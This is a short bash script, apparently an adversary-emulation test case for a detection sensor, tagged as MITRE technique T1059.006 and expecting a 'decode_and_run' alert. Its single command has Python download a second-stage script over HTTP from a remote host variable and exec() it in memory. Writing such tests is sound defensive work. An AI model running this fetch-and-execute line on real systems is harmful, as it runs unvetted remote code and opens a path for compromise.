#!/usr/bin/env bash
# tactic: execution
# technique: T1059.006 Command and Scripting Interpreter: Python
# behaviour: Python downloads its second stage over HTTP and exec()s it in memory
# as: user
# needs: remote
# expect: decode_and_run
set -u
python3 -c "import urllib.request as u; exec(u.urlopen('http://$SNTL_REMOTE:8080/stage2.py', timeout=5).read())"
